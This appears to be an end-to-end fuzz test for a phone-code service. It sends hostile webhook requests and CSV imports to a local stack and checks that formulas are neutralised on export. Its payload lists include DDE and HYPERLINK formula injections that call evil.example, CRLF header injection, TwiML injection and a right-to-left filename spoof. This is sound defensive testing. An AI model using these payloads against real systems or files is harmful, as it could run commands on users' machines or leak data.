/**
 * Hostile input end to end (docs/data-model.md, docs/call-flow.md, docs/design.md security), on the local stack started in this
 * process: the voice webhooks fuzzed through its real HTTP server with raw requests, and the
 * importer fuzzed through its bucket, the real import handler behind the bucket events. Then
 * `tollgate codes export` over whatever the fuzzing stored.
 *
 * Webhooks: random bytes, hostile form fields (signed as Twilio signs, so they reach the call
 * flow, or not), random paths and query strings, 10,000 fields, bodies over 64 KB, CRLF in
 * fields → 200 with TwiML Twilio can run, or a plain 4xx that stores nothing.
 *
 * Imports: random bytes, invalid UTF-8, a 1 MB cell, 10,000 columns, CRLF and formula payloads
 * in descriptions, in codes, codes-replace, users and settings files → a report that applies
 * the file whole (the descriptions stored as data, exactly) or rejects it whole (nothing
 * changed); never a crash, never half a file. The export then neutralises every formula.
 *
 * The pure pipeline takes many more cases in test/unit/webhook.fuzz.test.ts and csv.test.ts;
 * here each case costs real requests, so the runs are fewer. Seeds are fixed (`FC_SEED`).
 */
import { request } from 'node:http';
import { join } from 'node:path';
import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeS3Client } from '../../functions/adapters/s3/client.ts';
import { signTwilioRequest } from '../../functions/adapters/twilio/signature.ts';
import type { CodeItem } from '../../functions/core/ports.ts';
import type { ImportReport } from '../../functions/services/importer.ts';
import { twimlProblems } from '../fixtures/twilio/twiml-check.ts';
import { cliRunner, type CliRunner } from './support/cli-io.ts';
import { E2E_TOKEN, startE2eStack, type AccountFixture, type E2eStack } from './support/e2e-stack.ts';
import { newCallSid } from './support/voice.ts';

const SEED = Number(process.env.FC_SEED ?? 20261122);
const REPO = join(import.meta.dirname, '..', '..');
const FORM = 'application/x-www-form-urlencoded; charset=utf-8';

let e2e: E2eStack;
let acme: AccountFixture;
let s3: S3Client;
let tollgate: CliRunner;

beforeAll(async () => {
  e2e = await startE2eStack();
  acme = await e2e.addAccount('acme', {
    settings: {
      callerId: '+14155550100',
      codeLength: { min: 4, max: 8 },
      calls: { default: 'free', international: 'required', directory: 'optional' },
      groups: { staff: {}, lawyers: { calls: { default: 'required' } } },
      defaultGroup: 'staff',
    },
    codes: [e2e.accountCode('0042', { description: 'Smith v Jones' })],
  });
  s3 = makeS3Client({ endpoint: e2e.stack.s3Endpoint });
  tollgate = cliRunner({ env: { TOLLGATE_HOME: e2e.home }, cwd: REPO });
});

afterAll(async () => {
  s3?.destroy();
  await e2e?.close();
});

// ---- webhooks ------------------------------------------------------------------------------

interface Answer {
  readonly status: number;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly body: string;
}

/** A POST with the path and body exactly as given, as any client on the internet could send it. */
function rawPost(path: string, headers: Record<string, string>, body: Uint8Array, chunked = false): Promise<Answer> {
  const url = new URL(e2e.stack.httpUrl);
  return new Promise((resolve, reject) => {
    const req = request(
      { host: url.hostname, port: url.port, method: 'POST', path, headers: chunked ? headers : { ...headers, 'content-length': String(body.length) }, agent: false },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
        res.on('error', reject);
      },
    );
    // The server may close the socket after a 413 while the body is still going out.
    req.on('error', (err: NodeJS.ErrnoException) => (err.code === 'EPIPE' || err.code === 'ECONNRESET' ? undefined : reject(err)));
    req.end(Buffer.from(body));
  });
}

async function callItems(): Promise<number> {
  const out = await e2e.client.send(new ScanCommand({ TableName: e2e.stack.tables.calls, Select: 'COUNT', ConsistentRead: true }));
  return out.Count ?? 0;
}

function signedHeaders(pathAndQuery: string, body: string): Record<string, string> {
  const params: Record<string, string | string[]> = {};
  for (const [k, v] of new URLSearchParams(body)) {
    const prev = params[k];
    params[k] = prev === undefined ? v : Array.isArray(prev) ? [...prev, v] : [prev, v];
  }
  return { 'content-type': FORM, 'x-twilio-signature': signTwilioRequest(e2e.stack.publicUrl + pathAndQuery, params, E2E_TOKEN) };
}

const NASTY = [
  '=HYPERLINK("http://evil.example","click")',
  "=cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '+1+1',
  'Smith\r\nX-Injected: yes',
  'x\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: yes',
  '</Say><Dial>+19005550000</Dial>',
  '&<>"\'',
  '\u0000',
  '\u202Egnp.exe',
  '911',
  '+19005550100',
  '+442079460018',
  'client:alice',
  '0042',
  '',
];
const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 1, arbitrary: fc.constantFrom(...NASTY).map((s) => s.repeat(400)) },
);
const ROUTES = ['/voice/incoming', '/voice/code', '/voice/dial-complete', '/voice/status', '/voice/fallback'];
const FIELDS = ['From', 'To', 'Digits', 'CallStatus', 'CallDuration', 'DialCallStatus', 'DialCallDuration', 'SipDomain'];

describe('webhooks given hostile requests through the local HTTP server', () => {
  const request = fc.record({
    path: fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...ROUTES) },
      { weight: 1, arbitrary: fc.constantFrom('/voice', '/voice/', '/voice/x', '//voice/incoming', '/voice/%00', '/health/') },
    ),
    query: fc.oneof(
      fc.constant(''),
      fc.constantFrom('step=1', 'step=2', 'step=0', 'step=-1', 'step=abc', 'step=1e1', 'step=%2B1', 'step=99999999999', 'step=1&step=2', 'step='),
      fc.string({ unit: fc.constantFrom('a', '=', '&', '%', '2', '0', '+', '1', ';', '/', '?'), maxLength: 20 }),
    ),
    body: fc.oneof(
      fc.record({ kind: fc.constant('bytes' as const), bytes: fc.uint8Array({ maxLength: 1500 }), type: fc.constantFrom(FORM, 'text/plain', 'application/octet-stream', '') }),
      fc.record({
        kind: fc.constant('form' as const),
        fields: fc.array(fc.tuple(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...FIELDS) }, { weight: 1, arbitrary: text }), text), { maxLength: 8 }),
        callSid: fc.constantFrom('fresh', 'fresh', 'garbage'),
        signed: fc.constantFrom(true, true, false),
      }),
    ),
    chunked: fc.boolean(),
  });

  it('answer with TwiML Twilio can run or a plain 4xx, and a 4xx stores nothing', async () => {
    await fc.assert(
      fc.asyncProperty(request, async (r) => {
        const pathAndQuery = r.query === '' ? r.path : `${r.path}?${r.query}`;
        let body: Uint8Array;
        let headers: Record<string, string>;
        let signed = false;
        if (r.body.kind === 'bytes') {
          body = r.body.bytes;
          headers = r.body.type === '' ? {} : { 'content-type': r.body.type };
        } else {
          const sid = r.body.callSid === 'fresh' ? newCallSid() : 'CA-not-a-sid';
          const form = new URLSearchParams([['AccountSid', acme.sid], ['CallSid', sid], ...r.body.fields]).toString();
          body = Buffer.from(form);
          headers = r.body.signed ? signedHeaders(pathAndQuery, form) : { 'content-type': FORM, 'x-twilio-signature': 'bm90IGEgc2lnbmF0dXJl' };
          signed = r.body.signed;
        }
        const before = await callItems();
        const res = await rawPost(pathAndQuery, headers, body, r.chunked);
        const label = `${pathAndQuery} → ${res.status} ${res.body.slice(0, 160)}`;
        expect([200, 400, 403, 404, 405, 413], label).toContain(res.status);
        // Nothing a caller sent ends up in a response header.
        expect(
          Object.keys(res.headers).filter((h) => h.startsWith('x-injected')),
          label,
        ).toEqual([]);
        if (res.status === 200) {
          expect(res.headers['content-type'], label).toMatch(/^text\/xml\b/);
          expect(twimlProblems(res.body, { emptyAllowed: r.path === '/voice/status' }), label).toEqual([]);
          if (!signed && r.path !== '/voice/fallback') expect(res.body, label).toMatch(/<Dial\b/);
        } else {
          expect(res.headers['content-type'], label).toMatch(/^text\/plain\b/);
          expect(await callItems(), label).toBe(before);
        }
      }),
      { numRuns: 200, seed: SEED },
    );
  });

  it('take 10,000 signed form fields under 64 KB, and refuse 64 KB + 1 declared or streamed with 413, storing nothing', async () => {
    const sid = newCallSid();
    const fields: [string, string][] = [
      ['AccountSid', acme.sid],
      ['CallSid', sid],
      ['From', 'client:alice'],
      ['To', '+12125550100'],
    ];
    for (let i = 0; i < 10_000; i++) fields.push([i.toString(36), '']);
    const form = new URLSearchParams(fields).toString();
    expect(Buffer.byteLength(form)).toBeLessThan(64 * 1024);
    const many = await rawPost('/voice/incoming', signedHeaders('/voice/incoming', form), Buffer.from(form));
    expect(many.status).toBe(200);
    expect(twimlProblems(many.body)).toEqual([]);
    expect(many.body).toContain('<Number>+12125550100</Number>');

    const before = await callItems();
    const big = Buffer.from(`${form}&pad=${'x'.repeat(64 * 1024)}`).subarray(0, 64 * 1024 + 1);
    for (const chunked of [false, true]) {
      const res = await rawPost('/voice/incoming', { 'content-type': FORM }, big, chunked);
      expect(res.status, chunked ? 'streamed' : 'declared').toBe(413);
    }
    expect(await callItems()).toBe(before);
  });

  it('store CRLF and formula payloads in From as data, and never echo them into headers', async () => {
    const sid = newCallSid();
    const from = '=HYPERLINK("http://evil.example","x")\r\nX-Injected: yes';
    const form = new URLSearchParams([
      ['AccountSid', acme.sid],
      ['CallSid', sid],
      ['From', '+14155550123'],
      ['To', '+12125550100'],
      ['Caller', from],
    ]).toString();
    const res = await rawPost('/voice/incoming', signedHeaders('/voice/incoming', form), Buffer.from(form));
    expect(res.status).toBe(200);
    expect(res.headers['x-injected']).toBeUndefined();
    // From itself may not carry a line break (400, nothing stored).
    const bad = new URLSearchParams([
      ['AccountSid', acme.sid],
      ['CallSid', newCallSid()],
      ['From', from],
      ['To', '+12125550100'],
    ]).toString();
    const before = await callItems();
    const refused = await rawPost('/voice/incoming', signedHeaders('/voice/incoming', bad), Buffer.from(bad));
    expect(refused.status).toBe(400);
    expect(refused.body).toMatch(/From/);
    expect(await callItems()).toBe(before);
  });
});

// ---- imports -------------------------------------------------------------------------------

let uploads = 0;

/** Put an object into the stack's bucket and wait for its import report. */
async function importFile(key: string, body: Uint8Array | string): Promise<ImportReport> {
  const reportsBefore = new Set(await reportKeys());
  await s3.send(new PutObjectCommand({ Bucket: e2e.stack.bucket, Key: key, Body: body }));
  await e2e.stack.imports.idle();
  const fresh = (await reportKeys()).filter((k) => !reportsBefore.has(k));
  expect(fresh, `one report for ${key}`).toHaveLength(1);
  const out = await s3.send(new GetObjectCommand({ Bucket: e2e.stack.bucket, Key: fresh[0] }));
  const report = JSON.parse((await out.Body?.transformToString('utf-8')) ?? 'null') as ImportReport;
  expect(report.file).toBe(key);
  return report;
}

async function reportKeys(): Promise<string[]> {
  const keys: string[] = [];
  let token: string | undefined;
  do {
    const out = await s3.send(new ListObjectsV2Command({ Bucket: e2e.stack.bucket, Prefix: 'results/acme/', ...(token === undefined ? {} : { ContinuationToken: token }) }));
    for (const o of out.Contents ?? []) if (o.Key !== undefined) keys.push(o.Key);
    token = out.NextContinuationToken;
  } while (token !== undefined);
  return keys;
}

async function codes(): Promise<CodeItem[]> {
  const out: CodeItem[] = [];
  for await (const c of e2e.stores.codes.listCodes('acme')) out.push(c);
  return out;
}

async function users(): Promise<unknown[]> {
  const out: unknown[] = [];
  for await (const u of e2e.stores.users.listUsers('acme')) out.push(u);
  return out;
}

/** Everything an import may change, to compare before and after a rejected one. */
async function snapshot(): Promise<string> {
  return JSON.stringify({ codes: await codes(), users: await users(), settings: await e2e.stores.accounts.getSettings('acme') });
}

function assertReportShape(r: ImportReport): void {
  expect(['applied', 'rejected']).toContain(r.status);
  expect(r.errors.length).toBeLessThanOrEqual(Math.min(r.errorCount, 1000));
  if (r.status === 'rejected') expect(r.errorCount).toBeGreaterThan(0);
  else expect(r.errorCount).toBe(0);
  for (const e of r.errors) {
    expect(typeof e.line).toBe('number');
    expect(typeof e.column).toBe('string');
    expect(typeof e.value).toBe('string');
    expect(e.message.length).toBeGreaterThan(10);
  }
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Smith v Jones")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
];
const CRLF = ['Smith\r\nJones', 'Smith\nJones', 'Smith\rJones', 'Smith\r\n1234,Injected'];

describe('CSV files no spreadsheet should have written, through the bucket', () => {
  it('rejects a 1 MB cell, 10,000 columns and invalid UTF-8 whole, saying why, and changes nothing', async () => {
    const before = await snapshot();
    const huge = await importFile('imports/acme/codes/huge-cell.csv', `code,description\r\n1001,${'x'.repeat(1024 * 1024)}\r\n1002,fine\r\n`);
    expect(huge).toMatchObject({ status: 'rejected', errorCount: 1 });
    expect(huge.errors[0]?.message).toMatch(/64 KB/);

    const wide = await importFile('imports/acme/codes/wide.csv', `code,description${','.repeat(9_998)}\r\n1001,x${','.repeat(9_998)}\r\n`);
    expect(wide.status).toBe('rejected');
    expect(wide.errors[0]?.message).toMatch(/10000 columns; at most 1000/);

    const bytes = Buffer.concat([Buffer.from('code,description\r\n1001,Z'), Buffer.from([0xfc, 0x72, 0x69, 0x63, 0x68]), Buffer.from('\r\n')]);
    const latin1 = await importFile('imports/acme/codes/latin1.csv', bytes);
    expect(latin1.status).toBe('rejected');
    expect(latin1.errors[0]?.message).toMatch(/not valid UTF-8.*CSV UTF-8/);
    expect(await snapshot()).toBe(before);
  });

  it('rejects a file with a line break inside a description, and stores none of its rows', async () => {
    const before = await snapshot();
    for (const [i, description] of CRLF.entries()) {
      // Quoted, a line break is part of the value ("1234,Injected" never becomes a row of its own).
      const report = await importFile(`imports/acme/codes/crlf-${i}.csv`, `code,description\r\n2001,fine\r\n2002,"${description}"\r\n`);
      expect(report.status, JSON.stringify(description)).toBe('rejected');
      expect(report.errors.some((e) => e.line === 3 && e.column === 'description' && /line break/.test(e.message))).toBe(true);
    }
    expect(await snapshot()).toBe(before);
  });

  it('stores formula payloads as data, exactly, and `tollgate codes export` neutralises every one', async () => {
    const rows = FORMULAS.map((f, i) => `${3001 + i},"${f.replaceAll('"', '""')}"`);
    const report = await importFile('imports/acme/codes/formulas.csv', `code,description\r\n${rows.join('\r\n')}\r\n`);
    expect(report).toMatchObject({ status: 'applied', rows: FORMULAS.length });
    const stored = new Map((await codes()).map((c) => [c.code, c.description]));
    for (const [i, f] of FORMULAS.entries()) expect(stored.get(String(3001 + i)), JSON.stringify(f)).toBe(f.trim());

    const exported = await exportedDescriptions();
    for (const [i, f] of FORMULAS.entries()) {
      const cell = exported.get(String(3001 + i));
      const value = f.trim();
      expect(cell, JSON.stringify(f)).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
    }
  });

  it('applies a fuzzed file whole or rejects it whole, never crashing; then the export neutralises every formula stored', async () => {
    const pool = Array.from({ length: 40 }, (_, i) => String(4000 + i * 7));
    const description = fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...FORMULAS, ...CRLF, 'Smith v Jones', 'Zürich 🇨🇭', '"quoted"', 'a,b;c', '\u202Eevil', '') },
      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
      { weight: 1, arbitrary: fc.integer({ min: 95, max: 130 }).map((n) => 'd'.repeat(n)) },
    );
    const code = fc.oneof(
      { weight: 30, arbitrary: fc.constantFrom(...pool) },
      { weight: 1, arbitrary: fc.constantFrom('=0042', '00 42', '１２３４', '1.2E+05', '42', '', '4000\r\n4007') },
    );
    const kind = fc.oneof({ weight: 30, arbitrary: fc.constantFrom('', '', 'account', 'ACCOUNT', 'authorization') }, { weight: 1, arbitrary: fc.constantFrom('=1', 'both') });
    const row = fc.record({ code, description, kind });
    const file = fc.record({
      target: fc.constantFrom('codes', 'codes', 'codes', 'codes', 'codes', 'codes-replace', 'users', 'settings'),
      rows: fc.uniqueArray(row, { minLength: 1, maxLength: 6, selector: (r) => r.code }),
      delimiter: fc.constantFrom(',', ';', '\t'),
      eol: fc.constantFrom('\r\n', '\n'),
      bom: fc.boolean(),
      quoting: fc.constantFrom('all', 'needed', 'needed', 'none'),
      corrupt: fc.oneof(
        { weight: 10, arbitrary: fc.constant(undefined) },
        { weight: 1, arbitrary: fc.record({ kind: fc.constant('random' as const), bytes: fc.uint8Array({ maxLength: 400 }) }) },
        { weight: 1, arbitrary: fc.record({ kind: fc.constant('bad-utf8' as const), at: fc.nat(), byte: fc.constantFrom(0x80, 0xc3, 0xff, 0xfe, 0xed) }) },
      ),
    });

    type File = typeof file extends fc.Arbitrary<infer T> ? T : never;
    const encode = (f: File): Buffer => {
      const quote = (v: string): string => {
        if (f.quoting === 'all') return `"${v.replaceAll('"', '""')}"`;
        if (f.quoting === 'none') return v;
        return /["\r\n,;\t]/.test(v) || v !== v.trim() ? `"${v.replaceAll('"', '""')}"` : v;
      };
      const header = f.target === 'users' ? ['user', 'name'] : ['code', 'description', 'kind'];
      const lines = [header, ...f.rows.map((r) => (f.target === 'users' ? [`client:u${r.code}`, r.description] : [r.code, r.description, r.kind]))];
      let bytes = Buffer.from((f.bom ? '\uFEFF' : '') + lines.map((l) => l.map(quote).join(f.delimiter)).join(f.eol) + f.eol, 'utf8');
      if (f.corrupt?.kind === 'random') bytes = Buffer.from(f.corrupt.bytes);
      if (f.corrupt?.kind === 'bad-utf8') {
        const at = f.corrupt.at % (bytes.length + 1);
        bytes = Buffer.concat([bytes.subarray(0, at), Buffer.from([f.corrupt.byte]), bytes.subarray(at)]);
      }
      return bytes;
    };

    const outcomes = { applied: 0, rejected: 0 };
    await fc.assert(
      fc.asyncProperty(file, async (f) => {
        const n = ++uploads;
        const key = f.target === 'settings' ? 'imports/acme/settings.json' : f.target === 'users' ? `imports/acme/users/fuzz-${n}.csv` : `imports/acme/${f.target}/fuzz-${n}.csv`;
        const bytes = encode(f);
        const before = await snapshot();
        const report = await importFile(key, bytes);
        const label = `${key} ${JSON.stringify(bytes.toString('utf8').slice(0, 200))} → ${report.status} ${JSON.stringify(report.errors.slice(0, 2))}`;
        assertReportShape(report);
        outcomes[report.status]++;
        if (report.status === 'rejected') {
          expect(await snapshot(), label).toBe(before);
          return;
        }
        expect(f.target, label).not.toBe('settings');
        if (f.target === 'users') return;
        // Applied: every row stored as written, and (for a replace file) nothing else.
        const stored = new Map((await codes()).filter((c) => c.kind === 'account').map((c) => [c.code, c.description ?? '']));
        for (const r of f.rows) {
          if (!/^\d{4,8}$/.test(r.code) || /authorization/i.test(r.kind)) continue;
          expect(stored.get(r.code), label).toBe(r.description.trim());
        }
        if (f.target === 'codes-replace') {
          expect(stored.size, label).toBe(f.rows.filter((r) => !/authorization/i.test(r.kind)).length);
        }
      }),
      { numRuns: 80, seed: SEED },
    );

    // Both ways out were taken, often.
    expect(outcomes.applied).toBeGreaterThan(10);
    expect(outcomes.rejected).toBeGreaterThan(10);

    // Whatever descriptions the fuzzing stored (and, so the check is never empty, a few more),
    // the export a finance team opens neutralises each formula.
    const more = FORMULAS.map((f, i) => `${5001 + i},"${f.replaceAll('"', '""')}"`);
    expect((await importFile('imports/acme/codes/more-formulas.csv', `code,description\r\n${more.join('\r\n')}\r\n`)).status).toBe('applied');
    const all = await codes();
    const exported = await exportedDescriptions();
    let formulas = 0;
    for (const c of all.filter((x) => x.kind === 'account')) {
      const value = c.description ?? '';
      // docs/data-model.md's rule: a leading = + - @ tab or CR, unless the value is a plain number or E.164 numbers.
      const risky = /^[=+\-@\t\r]/.test(value) && !/^[+-]?(?:\d+(?:\.\d+)?|\.\d+)$/.test(value) && !/^\+[1-9]\d{1,14}(?:;\+[1-9]\d{1,14})*$/.test(value);
      if (risky) formulas++;
      expect(exported.get(c.code ?? ''), JSON.stringify(value)).toBe(risky ? `'${value}` : value);
    }
    expect(formulas).toBeGreaterThan(0);
  }, 120_000);
});

/** `tollgate codes export` of acme, read back: account code → description cell as a spreadsheet sees it. */
async function exportedDescriptions(): Promise<Map<string, string>> {
  const run = await tollgate(['codes', 'export', '--account', 'acme']);
  expect(run.code, run.stderr).toBe(0);
  expect(run.stdout.startsWith('\uFEFF')).toBe(true);
  const rows = parse(run.stdout.slice(1), { columns: true, relax_column_count: false }) as Record<string, string>[];
  return new Map(rows.filter((r) => r.kind === 'account').map((r) => [r.code ?? '', r.description ?? '']));
}
